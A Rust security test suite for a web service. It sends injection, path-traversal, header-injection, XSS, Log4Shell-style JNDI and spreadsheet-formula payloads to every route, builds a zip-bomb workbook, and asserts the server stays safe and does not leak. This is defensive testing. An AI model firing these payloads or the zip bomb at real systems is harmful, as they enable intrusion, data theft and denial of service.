//! Hostile inputs after the OWASP list: injection in every parameter of every route of the contract, path traversal, bombs,
//! formulas in exports, scripts in titles, oversized everything. No answer is a failure, none leaks, all come in time.

use std::fmt::Write as _;
use std::io::Write as _;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use spotlight_tests::raw::Raw;
use spotlight_tests::{Server, binary, import, spotlight};

/// The longest that any answer may take on a busy machine.
const PATIENCE: Duration = Duration::from_secs(10);

const PAYLOADS: [&str; 18] = [
    "' OR '1'='1' --",
    "1; DROP TABLE incidents; --",
    "\" UNION SELECT password FROM accounts --",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\0.csv",
    "x\r\nset-cookie: stolen=1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "${jndi:ldap://example.org/a}",
    "{{7*7}}",
    "%25%32%65%25%32%65",
    "\u{202e}gnp.exe\u{feff}",
    "\u{0}\u{1}\u{7f}",
    "99999999999999999999999999999999",
    "-1e309",
    "NaN",
    "ﬀİſ\u{1f4a9}\u{d7ff}",
];

fn encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        write!(out, "%{byte:02X}").unwrap();
        out
    })
}

/// What every answer must be, whatever was asked.
fn assert_sane(answer: &Raw, what: &str) {
    assert!(answer.status >= 200 && answer.status < 500, "{what}: {} {}", answer.status, answer.body);
    assert!(answer.took < PATIENCE, "{what} took {:?}", answer.took);
    assert!(answer.header("set-cookie").is_none_or(|cookie| !cookie.contains("stolen")), "{what}: {}", answer.head);
    let kind = answer.header("content-type").unwrap_or_default();
    let echo = answer.body.contains("<script>alert(1)") || answer.body.contains("<img src=x");
    assert!(!(kind.starts_with("text/html") && echo), "{what} comes back in a page");
    for inside in ["root:x:0", "SQLITE", "sqlite", "sqlx", "panicked at", ".rs:"] {
        assert!(!answer.body.contains(inside), "{what} tells {inside:?}: {}", answer.body);
    }
    assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{what}: {}", answer.head);
}

fn served(folder: &Path) -> (Server, String) {
    let db = folder.join("hostile.db");
    let sample = spotlight_tests::root().join("data/sample/incidents.csv");
    import(&db, &[sample], &["--publish"]);
    let arguments = ["token", "add", "--name", "Hostile", "--role", "documenter", "--db"];
    let output = spotlight(arguments.iter().copied().map(std::ffi::OsStr::new).chain([db.as_os_str()]));
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let token = String::from_utf8(output.stdout).unwrap().trim().to_owned();
    (Server::start(&db), format!("authorization: Bearer {token}\r\n"))
}

#[test]
fn injection_in_every_parameter_of_every_route_is_answered_calmly() {
    let folder = tempfile::tempdir().unwrap();
    let (server, bearer) = served(folder.path());
    let contract = server.json("/openapi.json");
    let before = server.get("/api/v1/export.csv");
    let mut asked = 0;
    for (route, operations) in contract["paths"].as_object().unwrap() {
        for (method, operation) in operations.as_object().unwrap() {
            let method = method.to_ascii_uppercase();
            if !["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"].contains(&method.as_str()) {
                continue;
            }
            let plain = route.replace("{z}", "0").replace("{x}", "0").replace("{y}", "0");
            let plain = plain.replace("{id}", "1").replace("{n}", "1");
            let shared = operations["parameters"].as_array().into_iter().flatten();
            let parameters: Vec<&Value> =
                operation["parameters"].as_array().into_iter().flatten().chain(shared).collect();
            for payload in PAYLOADS {
                let value = encoded(payload);
                let mut targets = vec![format!("{plain}?{value}={value}")];
                for parameter in &parameters {
                    let name = parameter["name"].as_str().unwrap_or_default();
                    match parameter["in"].as_str() {
                        Some("path") => {
                            let target = route.replace(&format!("{{{name}}}"), &value);
                            let target =
                                ["{z}", "{x}", "{y}", "{id}", "{n}"].iter().fold(target, |t, n| t.replace(n, "0"));
                            targets.push(target);
                        }
                        Some("query") => targets.push(format!("{plain}?{name}={value}")),
                        _ => {}
                    }
                }
                let body =
                    json!({ "name": payload, "password": payload, "code": payload, "fields": { payload: payload } });
                let body = if ["GET", "HEAD", "OPTIONS"].contains(&method.as_str()) {
                    String::new()
                } else {
                    body.to_string()
                };
                let headers = format!("{bearer}content-type: application/json\r\nsec-fetch-site: same-origin\r\n");
                for target in targets {
                    asked += 1;
                    assert_sane(
                        &server.raw(&method, &target, &headers, body.as_bytes()),
                        &format!("{method} {target}"),
                    );
                }
            }
        }
    }
    // The pages that the server writes: they put what they do not understand into HTML.
    for payload in PAYLOADS {
        let value = encoded(payload);
        let pages = ["category", "from", "to", "region", "bbox", "source", "q", "cursor", "lang", &value]
            .map(|name| format!("/list?{name}={value}"));
        let others =
            ["/incidents/{}", "/incidents/{}/preview.png", "/about?lang={}", "/about?{}=1", "/embed?q={}", "/pages/{}"];
        for target in pages.into_iter().chain(others.map(|form| form.replace("{}", &value))) {
            for language in ["en", "es"] {
                asked += 1;
                let headers = format!("accept-language: {language}\r\naccept: text/html\r\n");
                assert_sane(&server.raw("GET", &target, &headers, b""), &target);
            }
        }
    }
    eprintln!("{asked} hostile requests");
    assert!(asked > 2_000, "only {asked}");
    assert_eq!(server.get("/api/v1/export.csv"), before, "none of it changed what is public");
}

#[test]
fn paths_cannot_leave_the_pages_and_sizes_are_bounded() {
    let folder = tempfile::tempdir().unwrap();
    let (server, bearer) = served(folder.path());
    for path in [
        "/../../../../etc/passwd",
        "/..%2f..%2f..%2fetc%2fpasswd",
        "/assets/..%2f..%2fCargo.toml",
        "/assets/%2e%2e/%2e%2e/hostile.db",
        "//etc/passwd",
        "/%00",
        "/.git/config",
        "/hostile.db",
        "/hostile.db.key",
        "/tiles/0/0/..%2f..%2fetc%2fpasswd.geojson",
        "/en%0d%0aset-cookie:%20stolen=1",
    ] {
        assert_sane(&server.raw("GET", path, "", b""), path);
    }
    let long = "a".repeat(60_000);
    for (what, target) in
        [("query", format!("/api/v1/incidents?q={long}")), ("path", format!("/api/v1/incidents/{long}"))]
    {
        let answer = server.raw("GET", &target, "", b"");
        assert!((400..500).contains(&answer.status), "a long {what}: {}", answer.status);
        assert!(answer.took < PATIENCE);
    }
    let many: String = (0..200).fold(String::new(), |out, i| out + &format!("x-{i}: y\r\n"));
    let answer = server.raw("GET", "/healthz", &many, b"");
    assert!((400..500).contains(&answer.status), "200 headers: {}", answer.status);
    let json = "content-type: application/json\r\n";
    for body in [vec![b' '; 4 << 20], b"[".repeat(200_000), br#"{"name":"#.repeat(20_000), vec![0xff; 1_000]] {
        for target in ["/api/v1/sign-in", "/api/v1/records"] {
            let answer = server.raw("POST", target, &format!("{json}{bearer}"), &body);
            // A body that is too large may be refused by closing the connection.
            assert!(
                answer.status == 0 || (400..500).contains(&answer.status),
                "{target}: {} {}",
                answer.status,
                answer.body
            );
            assert!(answer.took < PATIENCE, "{target} took {:?}", answer.took);
        }
    }
    assert_eq!(server.status("/readyz"), 200);
}

#[test]
fn the_name_of_an_upload_is_only_a_name() {
    use base64::Engine as _;
    let folder = tempfile::tempdir().unwrap();
    let (server, bearer) = served(folder.path());
    let names =
        ["../../escaped.csv", "/tmp/escaped.csv", "a\r\nset-cookie: stolen=1.csv", "<script>alert(1)</script>.csv"];
    for name in names {
        let name64 = base64::engine::general_purpose::STANDARD.encode(name);
        let headers =
            format!("{bearer}tus-resumable: 1.0.0\r\nupload-length: 3\r\nupload-metadata: filename {name64}\r\n");
        let answer = server.raw("POST", "/api/v1/uploads", &headers, b"");
        assert!(
            answer.status == 201 || (400..500).contains(&answer.status),
            "{name:?}: {} {}",
            answer.status,
            answer.body
        );
        assert!(answer.header("set-cookie").is_none());
        assert!(answer.header("location").is_none_or(|to| to.starts_with("/api/v1/uploads/") && !to.contains("..")));
    }
    assert_sane(&server.raw("GET", "/api/v1/uploads", &bearer, b""), "the list of uploads");
    let beside: Vec<_> = std::fs::read_dir(folder.path()).unwrap().map(|f| f.unwrap().file_name()).collect();
    assert!(beside.iter().all(|name| name.to_string_lossy().starts_with("hostile.")), "{beside:?}");
    assert!(!folder.path().parent().unwrap().join("escaped.csv").exists());
}

/// A workbook of a few hundred kilobytes whose sheet or shared strings unpack to a gigabyte.
fn bomb(path: &Path, entry: &str) {
    let mut zip = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    let rels = "http://schemas.openxmlformats.org/package/2006/relationships";
    let office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    for (name, content) in [
        ("[Content_Types].xml", "<Types/>".to_owned()),
        (
            "_rels/.rels",
            format!(
                r#"<Relationships xmlns="{rels}"><Relationship Id="a" Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>"#
            ),
        ),
        (
            "xl/workbook.xml",
            format!(
                r#"<workbook xmlns="{main}" xmlns:r="{office}"><sheets><sheet name="a" sheetId="1" r:id="s"/></sheets></workbook>"#
            ),
        ),
        (
            "xl/_rels/workbook.xml.rels",
            format!(
                r#"<Relationships xmlns="{rels}"><Relationship Id="s" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="t" Type="{office}/sharedStrings" Target="sharedStrings.xml"/></Relationships>"#
            ),
        ),
    ] {
        zip.start_file(name, options).unwrap();
        zip.write_all(content.as_bytes()).unwrap();
    }
    let sheet = format!(r#"<worksheet xmlns="{main}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>"#);
    let strings = format!(r#"<sst xmlns="{main}"><si><t>"#);
    for (name, start) in [("xl/worksheets/sheet1.xml", sheet), ("xl/sharedStrings.xml", strings)] {
        zip.start_file(name, options).unwrap();
        zip.write_all(start.as_bytes()).unwrap();
        if name.ends_with(entry) {
            let block = vec![b'A'; 1 << 20];
            (0..512).for_each(|_| zip.write_all(&block).unwrap());
        }
    }
    zip.finish().unwrap();
}

#[test]
fn a_workbook_that_unpacks_to_half_a_gigabyte_is_refused_in_bounded_time_and_memory() {
    let folder = tempfile::tempdir().unwrap();
    for entry in ["sheet1.xml", "sharedStrings.xml"] {
        let file = folder.path().join(format!("{entry}.xlsx"));
        bomb(&file, entry);
        assert!(std::fs::metadata(&file).unwrap().len() < 1 << 20);
        let began = Instant::now();
        // 1.5 GB of addresses, code, stacks and all: an import that unpacks everything into texts does not fit.
        let output = Command::new("sh")
            .args(["-c", "ulimit -v 1500000; exec \"$0\" import \"$1\" --db \"$2\""])
            .args([binary(), file, folder.path().join("bomb.db")])
            .output()
            .unwrap();
        let error = String::from_utf8_lossy(&output.stderr);
        assert!(!output.status.success(), "{entry} was taken");
        assert!(output.status.code().is_some(), "{entry} killed the import: {error}");
        assert!(!error.contains("panicked") && !error.contains("memory allocation"), "{entry}: {error}");
        assert!(began.elapsed() < Duration::from_secs(30), "{entry} took {:?}", began.elapsed());
    }
}

#[test]
fn formulas_and_scripts_in_titles_stay_text() {
    let folder = tempfile::tempdir().unwrap();
    let db = folder.path().join("titles.db");
    let titles = [
        "=HYPERLINK(\"\"http://example.org\"\",\"\"x\"\")",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "<script>alert(1)</script>",
        "</script><svg onload=alert(1)>",
    ];
    let mut file = String::from("external_id,source_system,category,date,lat,lon,title,source,consent,visibility\n");
    for (i, title) in titles.iter().enumerate() {
        writeln!(file, "T{i},titles,death,2020-01-0{},31.9,-111.{i},\"{title}\",register,public_record,exact", i + 1)
            .unwrap();
    }
    let path = folder.path().join("titles.csv");
    std::fs::write(&path, file).unwrap();
    let receipt = import(&db, &[path], &["--publish"]);
    assert_eq!(receipt["totals"]["accepted"], titles.len(), "{}", receipt["totals"]);
    let server = Server::start(&db);
    let export = server.get("/api/v1/export.csv");
    let mut reader = csv::Reader::from_reader(export.as_slice());
    let title = reader.headers().unwrap().iter().position(|name| name == "title").unwrap();
    let cells: Vec<String> = reader.records().map(|row| row.unwrap()[title].to_owned()).collect();
    assert_eq!(cells.len(), titles.len());
    for cell in cells {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} is a formula");
    }
    for path in ["/api/v1/incidents", "/api/v1/export.geojson", "/tiles/16/12515/26578.geojson", "/api/v1/export.csv"] {
        let answer = server.raw("GET", path, "", b"");
        let kind = answer.header("content-type").unwrap();
        assert!(!kind.contains("html") && answer.header("x-content-type-options") == Some("nosniff"), "{path}: {kind}");
    }
    for page in ["/", "/en", "/es"] {
        assert!(!server.raw("GET", page, "", b"").body.contains("alert(1)"), "data never get into the page's own HTML");
    }
}
